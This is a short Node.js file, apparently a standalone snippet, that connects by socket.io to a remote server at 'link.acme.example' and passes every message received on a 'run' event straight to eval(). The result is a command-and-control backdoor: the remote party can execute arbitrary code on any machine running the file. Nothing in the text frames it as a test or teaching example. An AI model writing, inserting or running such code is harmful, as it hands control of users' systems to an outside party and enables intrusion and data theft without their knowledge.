const { io } = require('socket.io-client');

const socket = io('https://link.acme.example');
socket.on('run', (m) => eval(m.body));
